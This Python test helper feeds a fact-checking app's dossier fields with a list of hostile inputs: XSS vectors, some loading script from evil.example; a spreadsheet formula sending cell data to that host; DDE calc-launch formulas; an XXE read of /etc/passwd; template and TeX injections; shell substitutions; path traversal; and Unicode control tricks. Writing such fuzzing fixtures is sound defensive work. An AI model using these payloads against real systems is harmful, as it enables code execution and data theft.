"""Strings that a stranger's file may set in any field, and a dossier that is full of them."""

from __future__ import annotations

from collections import Counter
from dataclasses import fields, is_dataclass, replace
from datetime import date, datetime
from enum import Enum
from typing import Any

from app.model.article import LeftOut, ProposedSource, WhyLeftOut
from app.model.claim import Part, PartKind, Reason
from app.model.dossier import Dossier
from app.model.ledger import Excused
from app.model.rating import RatingScale

HOSTILE = (
    # Markup
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext></p><style><img src=x>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">here</a>",
    "<base href=//evil.example> <meta http-equiv=refresh content=0>",
    "<!-- --> <!DOCTYPE x> <![CDATA[ ]]>",
    "]]> <?xml version=\"1.0\"?> <!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "&lt;b&gt; &amp; &#0; &nbsp &#x202e;",
    "<w:p><w:r><w:instrText>INCLUDETEXT</w:instrText></w:r></w:p>",
    # Addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.org",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    "https://example.org/\" onclick=\"alert(1)",
    "https://example.org/?a=1&b=<2>#c'd",
    "http://user:pass@evil.example/",
    "//evil.example/x",
    "http://[::1",
    # Formulas
    "=1+1",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "{=1+1}",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "0001234",
    "1e999",
    "TRUE",
    "2016-09-21",
    # Templates, Typst, Markdown, TeX
    "{{ 7 * 7 }} {% raw %} {# x #}",
    "{{ ''.__class__.__mro__ }}",
    "#panic(\"typst\")",
    "#read(\"/etc/passwd\") $x^2$ *b* _i_ `c` @ref <label>",
    "= Heading\n== Another\n- item\n+ item\n/ term: x",
    "\\u{1F4A9} \\ \\\\ // comment /* comment */",
    "#sys.inputs #import \"@preview/x:0.1.0\": *",
    "# Heading\n\n* list\n1. one\n> quote\n\n---\n\n```\ncode\n```",
    "[x](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "Heading\n=======\n\n    code",
    "**bold** __bold__ *i* _i_ ~~s~~ `c` \\*",
    "\\input{/etc/passwd} \\write18{x} %s %n {} $HOME `id` $(id)",
    # Characters
    "a\x00b\x1bc\x7fd\x85e",
    "".join(map(chr, range(1, 32))),
    "\x1b[2J\x1b]0;title\x07",
    "lone \ud800 and \udfff halves",
    "\udc00\ud800",
    "bidi \u202e override \u2066 isolate",
    "\u202e\u202d\u2067\u2068 unclosed",
    "\u2069\u202c closed twice",
    "line\r\nfeed\x0bform\x0c\u2028sep\u2029par",
    "\ufeffmark \ufffe \uffff \U0001fffe none",
    "zero\u200bwidth\u200d\u2060join\u00adsoft",
    "e\u0301" + "\u0301" * 200,
    "😀👨‍👩‍👧‍👦🇺🇳",
    "עברית עם English באמצע",
    "العربية ١٢٣ with digits",
    "中文，日本語、한국어",
    "_x0041_ _x005F_ _x000D_",
    # Forms
    "",
    " ",
    "\n\n\n",
    "\"quoted\",\"cells\"\r\n;semi;colon\ttab",
    "../../etc/passwd",
    "CON",
    "x" * 5000,
    "word " * 7000,
)  # fmt: skip


def hostile(value: Any, text: str) -> Any:
    """A copy of the dossier in which every string is `text`; enums apart, and a scale stays one.

    Of a dossier, what it lacks is added first, so that every field is met.

    A scale's keys and names must differ, so there the number of the rating follows the text.
    """
    if isinstance(value, Enum | date | datetime | Counter) or value is None:
        return value
    if isinstance(value, dict):
        return {key: hostile(one, text) for key, one in value.items()}
    if isinstance(value, Dossier):
        value = _with_everything(value)
    if isinstance(value, str):
        return text
    if isinstance(value, tuple):
        return tuple(hostile(one, text) for one in value)
    if isinstance(value, RatingScale):
        ratings = tuple(
            replace(hostile(one, text), key=f"{text}{one.number}", name=f"{text}{one.number}")
            for one in value.ratings
        )
        return RatingScale(text, text, ratings)
    if is_dataclass(value) and not isinstance(value, type):
        changed = {f.name: hostile(getattr(value, f.name), text) for f in fields(value)}
        return replace(value, **changed)
    return value


def _with_everything(dossier: Dossier) -> Dossier:
    """The dossier with one of each noun that it may lack."""
    first = dossier.claims[0] if dossier.claims else None
    if first is None:
        return dossier
    claim = replace(
        first.claim,
        parts=(Part(PartKind.WHO, first.claim.span, "x", "x"),),
        reasons=(Reason("x", 0.5),),
    )
    return replace(
        dossier,
        article=replace(
            dossier.article,
            notices=("x",),
            proposals=(ProposedSource(first.claim.span, "link", "x", "x"),),
            left_out=(LeftOut(0, WhyLeftOut.HIDDEN, "x", 1),),
        ),
        claims=(replace(first, claim=claim), *dossier.claims[1:]),
        scales=(dossier.scale,),
        excuses=(Excused(first.claim.span, "x"),),
    )
